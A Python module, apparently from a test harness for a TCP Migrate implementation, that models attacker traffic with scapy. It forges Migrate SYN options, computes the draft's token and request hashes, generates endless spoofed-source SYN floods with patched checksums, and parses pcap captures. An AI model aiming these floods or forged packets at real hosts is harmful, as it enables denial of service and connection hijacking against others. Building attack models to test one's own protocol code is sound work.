"""What attackers send, built with scapy, and what they can compute.  Pure: bytes in, bytes out.

Nothing of `migrate` is used here: an attacker has the draft, not this project's code.
"""

from __future__ import annotations

import hashlib
import ipaddress
from collections.abc import Iterator
from dataclasses import dataclass, replace
from pathlib import Path
from random import Random

from scapy.layers.inet import IP, TCP
from scapy.layers.inet6 import IPv6
from scapy.packet import Packet
from scapy.utils import RawPcapReader

MIGRATE_KIND, MP_KIND = 16, 15
NO_SECRET = bytes(25)
"""K of curve id 0."""
FIN, SYN, RST, PSH, ACK = 1, 2, 4, 8, 16
_ETHERNET = 14
_OPTIONS = 20
CIRCLE = 1 << 32
# What Linux puts into a SYN; as long as a Migrate option with its NOP, so that the two floods weigh the same.
_ORDINARY = [("MSS", 1460), ("SAckOK", b""), ("Timestamp", (1, 0)), ("NOP", None), ("WScale", 7)]


@dataclass(frozen=True, slots=True)
class End:
    """One end of a connection."""

    address: str
    port: int


Identity = tuple[End, End, int, bytes]


@dataclass(frozen=True, slots=True)
class Seen:
    """A segment, as somebody who listens sees it; `options` are the raw bytes."""

    source: End
    target: End
    flags: int
    seq: int
    ack: int
    options: bytes
    payload: bytes
    time: float = 0.0

    @property
    def migrate(self) -> bytes | None:
        """The 17 bytes of the Migrate option of a Migrate SYN (octet, token, request); else None."""
        found = dict(_options(self.options)).get(MIGRATE_KIND)
        return found if self.flags & (SYN | ACK) == SYN and found is not None and len(found) == 17 else None

    @property
    def permits(self) -> bool:
        """Whether it carries Migrate-Permitted."""
        return MP_KIND in dict(_options(self.options))

    @property
    def identity(self) -> Identity:
        """By which it is known again elsewhere."""
        return self.source, self.target, self.seq, self.options


def segment(source: End, target: End, flags: int, seq: int, ack: int = 0, **more: object) -> bytes:
    """An IP packet; `more` are scapy's fields of TCP (options, window) and `payload`."""
    payload = more.pop("payload", b"")
    tcp = TCP(sport=source.port, dport=target.port, flags=flags, seq=seq % CIRCLE, ack=ack % CIRCLE, **more)
    layer = IP if ipaddress.ip_address(source.address).version == 4 else IPv6
    return bytes(layer(src=source.address, dst=target.address) / tcp / payload)


def migrate_syn(source: End, target: End, seq: int, option: bytes) -> bytes:
    """A Migrate SYN; `option` is octet, token and request."""
    return segment(source, target, SYN, seq, window=0, options=[("NOP", None), (MIGRATE_KIND, option)])


def ordinary_syn(source: End, target: End, seq: int) -> bytes:
    return segment(source, target, SYN, seq, window=64240, options=_ORDINARY)


def token(ni: int, na: int, k: bytes) -> bytes:
    """T of draft-snoeren-tcp-migrate-00, for who knows the first sequence numbers and the secret."""
    return hashlib.sha1(ni.to_bytes(4, "big") + na.to_bytes(4, "big") + k).digest()[:8]


def request(ni: int, na: int, k: bytes, s: int, octet: int) -> bytes:
    """R, for one of the first 127 requests."""
    known = ni.to_bytes(4, "big") + na.to_bytes(4, "big") + k + (s % CIRCLE).to_bytes(4, "big")
    return hashlib.sha1(known + bytes((octet,))).digest()[:8]


def own_option(ni: int, na: int, k: bytes, s: int, octet: int = 1) -> bytes:
    """A Migrate option by an attacker who takes `k` for the secret."""
    return bytes((octet,)) + token(ni, na, k) + request(ni, na, k, s, octet)


# --- floods -----------------------------------------------------------------------------------------------------------


def variations(packet: bytes, sources: list[str], random: Random, vary: slice) -> Iterator[bytes]:
    """Endlessly many packets like this one: another source of these, another source port, and other bytes at `vary` (of
    the TCP options); checksums right.

    scapy takes half a millisecond for a packet.  These are its own, with a few fields written over."""
    four = packet[0] >> 4 == 4
    tcp = 20 if four else 40
    addresses = [ipaddress.ip_address(source).packed for source in sources]
    size = len(addresses[0])
    at = 12 if four else 8
    low, high = tcp + _OPTIONS + (vary.start or 0), tcp + _OPTIONS + (vary.stop or 0)
    if (low - tcp) % 2 or (high - low) % 2:
        raise ValueError("what varies must lie on 16-bit words: the checksum is mended by words")
    raw = bytearray(packet)
    while True:
        address, port, fresh = random.choice(addresses), random.randbytes(2), random.randbytes(high - low)
        old = bytes(raw[at : at + size])
        _mend(raw, tcp + 16, old + bytes(raw[tcp : tcp + 2]) + bytes(raw[low:high]), address + port + fresh)
        if four:
            _mend(raw, 10, old, address)
        raw[at : at + size], raw[tcp : tcp + 2], raw[low:high] = address, port, fresh
        yield bytes(raw)


def _mend(raw: bytearray, at: int, old: bytes, new: bytes) -> None:
    """The checksum at `at` after bytes of even length were replaced (RFC 1624)."""
    total = ~int.from_bytes(raw[at : at + 2], "big") & 0xFFFF
    total += int.from_bytes(new, "big") % 0xFFFF + 0xFFFF - int.from_bytes(old, "big") % 0xFFFF
    raw[at : at + 2] = (0xFFFF - total % 0xFFFF).to_bytes(2, "big")


# --- what is heard ----------------------------------------------------------------------------------------------------


def read(path: Path, wanted: int = SYN | RST) -> list[Seen]:
    """The TCP segments of a capture, which may still be growing, that have one of these flags (0: all)."""
    found: list[Seen] = []
    with RawPcapReader(str(path)) as reader:
        unit = 1e9 if reader.nano else 1e6
        for frame, meta in reader:
            if seen := heard(frame, wanted):
                found.append(replace(seen, time=meta.sec + meta.usec / unit))
    return found


def answers(seen: Seen) -> bool:
    """Whether it is a SYN/ACK."""
    return seen.flags & (SYN | ACK) == SYN | ACK


def heard(frame: bytes, wanted: int = 0) -> Seen | None:
    """An Ethernet frame's TCP segment, if it has one with one of these flags (0: any)."""
    kind = frame[12:14]
    at = {b"\x08\x00": _ETHERNET + 20, b"\x86\xdd": _ETHERNET + 40}.get(kind, len(frame))
    # Looked at before scapy does, which takes its time.
    if len(frame) < at + 20 or (wanted and not frame[at + 13] & wanted):
        return None
    packet: Packet = (IP if kind == b"\x08\x00" else IPv6)(frame[_ETHERNET:])
    if TCP not in packet:
        return None
    tcp = packet[TCP]
    return Seen(
        End(packet.src, int(tcp.sport)),
        End(packet.dst, int(tcp.dport)),
        *(int(tcp.flags), int(tcp.seq), int(tcp.ack)),
        frame[at + 20 : at + 4 * (frame[at + 12] >> 4)],
        bytes(tcp.payload.load) if hasattr(tcp.payload, "load") and not _is_padding(tcp) else b"",
    )


def _is_padding(tcp: Packet) -> bool:
    return type(tcp.payload).__name__ == "Padding"


def _options(raw: bytes) -> Iterator[tuple[int, bytes]]:
    at = 0
    while at < len(raw) and raw[at]:
        if raw[at] == 1:
            at += 1
            continue
        size = raw[at + 1] if at + 1 < len(raw) else 0
        if size < 2 or at + size > len(raw):
            return
        yield raw[at], raw[at + 2 : at + size]
        at += size
